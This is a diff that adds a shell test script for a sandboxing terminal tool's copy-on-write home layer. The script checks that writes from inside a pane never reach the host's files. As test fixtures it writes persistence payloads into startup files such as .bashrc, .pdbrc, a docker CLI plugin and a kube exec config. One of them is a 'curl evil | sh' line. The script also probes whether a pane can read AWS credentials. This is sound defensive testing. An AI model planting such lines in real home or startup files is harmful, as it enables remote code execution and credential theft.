@@ -1,0 +1,201 @@
+#!/bin/sh
+# The copy-on-write home (backends/home-layer.h, issue 25 item 1): a
+# native pane of the terminal profile writes $HOME freely, and the host's
+# files never change; the writes land in the profile's layer, the next
+# pane of the profile sees them, and `sandmux changes` / `keep` /
+# `changes --discard` move them to the host or drop them.
+#
+# (Debian's /usr/bin/python3 with python3-pip, tests/deps.sh.)
+#
+# For a server run as root and one run as uid 65534.  Each attempt is
+# a file no list of host-run names holds (the class the layer closes:
+# ~/.docker/cli-plugins, a kube exec plugin, direnv, a D-Bus service,
+# ~/.pdbrc, a pyenv-style .pth, a cargo build.rs), plus the shell's
+# ~/.bashrc, and each is judged on the host: the host's bytes are what
+# they were, or the file still does not exist.  Then: a tool installed
+# with `pip install --user` in one pane runs in the next pane of the
+# profile and is absent from the host; the working directory stays
+# real; with the working directory at $HOME, a non-dot entry is real
+# and a dot-entry is layered; a secret made on the host after launch
+# stays unreadable through the overlay.
+. "$(dirname "$0")/../lib.sh"
+
+for tool in bwrap setpriv python3; do
+	if ! command -v "$tool" >/dev/null 2>&1; then
+		not_ok "$tool is installed"
+		finish
+	fi
+done
+W=$(mktemp -d /var/tmp/sandmux-home-layer.XXXXXX)
+chmod 755 "$W"
+. "$(dirname "$0")/../native-ctx.sh"
+trap 'servers_kill; rm -rf "$W" "$T_DIR"' EXIT
+
+field_is() { [ "$(pane_field "$1" "$2")" = "$3" ]; }
+newest_pane() { sm ls --json | sed -n 's/.*"id":[^0-9]*\([0-9]*\).*/\1/p' | sort -n | tail -1; }
+pane_in() { # CWD: a native terminal pane there, its id
+	sm split -t %1 -v -l 6 --backend native -c "$1" -e PS1='$ ' -- /bin/sh >/dev/null 2>&1
+	p=$(newest_pane)
+	wait_for 10 field_is "$p" state warm
+	echo "$p"
+}
+# run NAME < SCRIPT: SCRIPT in pane $P, its output in $OUT.
+# The script and its output live in $RES, a real (host) directory the
+# pane may write.
+run() {
+	cat >"$RES/$1.sh"
+	rm -f "$RES/$1.out"
+	[ "$WHO" = nobody ] && chown 65534:65534 "$RES/$1.sh"
+	sm send-keys -t "%$P" "sh $RES/$1.sh >$RES/$1.tmp 2>&1; mv $RES/$1.tmp $RES/$1.out" Enter
+	if wait_for 60 test -f "$RES/$1.out"; then OUT=$(cat "$RES/$1.out"); else OUT="(no result)"; fi
+}
+# shows TEXT: $OUT has a line starting with TEXT (else it is printed).
+shows() {
+	printf "%s\n" "$OUT" | grep -q "^$1" && return 0
+	printf "%s\n" "$OUT" | head -20 | sed 's/^/#   /'
+	return 1
+}
+absent() { for f in "$@"; do [ ! -e "$f" ] && [ ! -L "$f" ] || return 1; done; }
+listed() { sm changes --json | grep -qF "\"path\":\"$1\""; }
+json_has() { sm changes --json | grep -qF "$1"; }
+not_listed() { ! listed "$1"; }
+diff_has() { sm changes --diff "$1" | grep -q "$2"; }
+
+for who in root nobody; do
+	ctx "hl-$who" "$who"
+	H="$D/home"
+	WORK="$D/work"
+	RES="$WORK/.t"
+	mkdir -p "$WORK/.t" "$H/.config" "$H/.docker" "$H/notes"
+	echo "# host bashrc" >"$H/.bashrc"
+	echo '{"auths":{}}' >"$H/.docker/config.json"
+	echo "host note" >"$H/notes/todo.txt"
+	mkdir -p "$WORK/pkg/smtool"
+	cat >"$WORK/pkg/pyproject.toml" <<'EOF'
+[build-system]
+requires = ["setuptools"]
+build-backend = "setuptools.build_meta"
+[project]
+name = "smtool"
+version = "1.0"
+[project.scripts]
+smtool = "smtool:main"
+EOF
+	echo 'def main(): print("smtool-ran")' >"$WORK/pkg/smtool/__init__.py"
+	[ "$WHO" = nobody ] && chown -R 65534:65534 "$D"
+	BASHRC=$(cksum "$H/.bashrc")
+	DOCKER=$(cksum "$H/.docker/config.json")
+	sm new -d -s hl -x 200 -y 60 -c "$WORK" -- /bin/sh >/dev/null
+	P=$(pane_in "$WORK")
+	if ! field_is "$P" backend native; then
+		not_ok "$NAME: a native pane starts ($(pane_field "$P" reason))"
+		continue
+	fi
+
+	# Files no list names: each would run on the host later.
+	run unlisted <<EOF
+echo 'curl evil | sh' >>$H/.bashrc
+echo '{"credsStore":"evil","auths":{}}' >$H/.docker/config.json
+mkdir -p $H/.docker/cli-plugins && printf '#!/bin/sh\nevil\n' >$H/.docker/cli-plugins/docker-evil
+mkdir -p $H/.kube && printf 'users:\n- user:\n    exec:\n      command: evil\n' >$H/.kube/config
+mkdir -p $H/.config/direnv && echo 'evil' >$H/.config/direnv/direnvrc
+mkdir -p $H/.local/share/dbus-1/services && echo 'Exec=evil' >$H/.local/share/dbus-1/services/evil.service
+echo 'import os; os.system("evil")' >$H/.pdbrc
+mkdir -p $H/.local/lib/python3/site-packages && echo 'import os' >$H/.local/lib/python3/site-packages/evil.pth
+mkdir -p $H/.cargo/registry/src/x/crate && echo 'fn main(){}' >$H/.cargo/registry/src/x/crate/build.rs
+cat $H/.bashrc
+EOF
+	check "$NAME: the pane's own writes succeed in its home (it reads back its ~/.bashrc)" \
+		sh -c 'printf "%s\n" "$1" | grep -q "curl evil"' - "$OUT"
+	check "$NAME: ~/.bashrc on the host is byte for byte the host's" \
+		[ "$(cksum "$H/.bashrc")" = "$BASHRC" ]
+	check "$NAME: ~/.docker/config.json (credsStore) on the host is unchanged" \
+		[ "$(cksum "$H/.docker/config.json")" = "$DOCKER" ]
+	check "$NAME: none of the unlisted host-run files reached the host" \
+		absent "$H/.docker/cli-plugins" "$H/.kube" "$H/.config/direnv" "$H/.local/share/dbus-1" \
+		"$H/.pdbrc" "$H/.local/lib" "$H/.cargo"
+	check "$NAME: changes lists ~/.bashrc as changed" listed ".bashrc"
+	check "$NAME: changes lists the docker plugin as added" listed ".docker/cli-plugins/docker-evil"
+	check "$NAME: changes marks ~/.bashrc host-run" \
+		json_has '"path":".bashrc","change":"changed","directory":false,"host_run":true'
+
+	# The working directory stays real.
+	run real <<EOF
+echo from-pane >$WORK/made-in-pane
+EOF
+	check "$NAME: a write in the working directory lands on the host" \
+		grep -qx from-pane "$WORK/made-in-pane"
+
+	# pip install --user: in the layer, usable by the next pane.
+	run pip <<EOF
+cd $WORK/pkg && /usr/bin/python3 -m pip install -q --user --no-index --no-build-isolation --break-system-packages --no-warn-script-location . && echo installed
+EOF
+	check "$NAME: pip install --user works in the pane" shows installed
+	check "$NAME: ... and the tool is not on the host" absent "$H/.local/bin/smtool"
+	sm kill-pane -t "%$P" >/dev/null 2>&1
+	P=$(pane_in "$WORK")
+	run next <<EOF
+$H/.local/bin/smtool; cat $H/.bashrc
+EOF
+	check "$NAME: the next pane of the profile runs the tool" shows smtool-ran
+	check "$NAME: ... and sees the layer's ~/.bashrc" \
+		sh -c 'printf "%s\n" "$1" | grep -q "curl evil"' - "$OUT"
+
+	# A secret the host makes after launch stays unreadable through it.
+	mkdir -p "$H/.aws" && echo "late-secret-$$" >"$H/.aws/credentials"
+	[ "$WHO" = nobody ] && chown -R 65534:65534 "$H/.aws"
+	run late <<EOF
+cat $H/.aws/credentials; cat /proc/self/root$H/.aws/credentials
+EOF
+	check "$NAME: a secret made after launch stays unreadable through the layer" \
+		sh -c '! printf "%s\n" "$1" | grep -q "late-secret"' - "$OUT"
+	rm -rf "$H/.aws"
+
+	# The layer's own storage cannot be reached from the pane.
+	run storage <<EOF
+ls $D/state/sandmux/home-layer/terminal/upper 2>&1; echo x >$D/state/sandmux/home-layer/terminal/upper/.bashrc 2>&1
+EOF
+	check "$NAME: the pane cannot write into the layer's storage" \
+		sh -c '! grep -q "^x$" "$1"/state/sandmux/home-layer/terminal/upper/.bashrc' - "$D"
+
+	# keep: asks, refuses without a terminal, copies after --yes.
+	if sm keep ~/.bashrc </dev/null >/dev/null 2>"$T_DIR/keep.err"; then
+		not_ok "$NAME: keep without a terminal or --yes refuses"
+	else
+		check "$NAME: keep without a terminal or --yes refuses (confirm_needed)" \
+			grep -q confirm_needed "$T_DIR/keep.err"
+	fi
+	check "$NAME: ... and the host's ~/.bashrc is unchanged" [ "$(cksum "$H/.bashrc")" = "$BASHRC" ]
+	check "$NAME: changes --diff shows the layer's line" \
+		diff_has "$H/.pdbrc" "^+import os"
+	sm keep --yes "$H/.local/bin/smtool" >/dev/null 2>&1
+	check "$NAME: keep --yes copies a file (and its missing directories) to the host" \
+		test -x "$H/.local/bin/smtool"
+	check "$NAME: ... which changes no longer lists" not_listed ".local/bin/smtool"
+	if sm changes --discard --yes >/dev/null 2>"$T_DIR/discard.err"; then
+		not_ok "$NAME: discard refuses while a pane has the layer mounted"
+	else
+		check "$NAME: discard refuses while a pane has the layer mounted (invalid_state)" \
+			grep -q invalid_state "$T_DIR/discard.err"
+	fi
+	sm kill-server >/dev/null 2>&1
+	wait_for 10 sh -c '[ "$(ls -d "$1"/state/sandmux/home-layer/terminal/work.* 2>/dev/null | wc -l)" -eq 0 ] ||
+		! pgrep -f "sandmux -L $2 server" >/dev/null' - "$D" "$NAME"
+	sm changes --discard --yes >/dev/null 2>&1
+	check "$NAME: changes --discard empties the layer once no pane has it" \
+		sh -c '[ -z "$(ls -A "$1"/state/sandmux/home-layer/terminal/upper)" ]' - "$D"
+	check "$NAME: ... and the host keeps what was kept" test -x "$H/.local/bin/smtool"
+
+	# With the working directory at $HOME: non-dot entries real, dot-entries layered.
+	sm new -d -s hl2 -x 200 -y 60 -c "$WORK" -- /bin/sh >/dev/null
+	P=$(pane_in "$H")
+	RES="$H/notes"
+	run at-home <<EOF
+echo pane-note >$H/notes/todo.txt; echo 'evil' >>$H/.bashrc; mkdir -p $H/bin 2>&1; echo x >$H/bin/ls 2>&1
+EOF
+	check "$NAME: cwd \$HOME: a non-dot entry (~/notes) is the real work tree" \
+		grep -qx pane-note "$H/notes/todo.txt"
+	check "$NAME: cwd \$HOME: ~/.bashrc is still layered" [ "$(cksum "$H/.bashrc")" = "$BASHRC" ]
+	sm kill-server >/dev/null 2>&1
+done
+finish
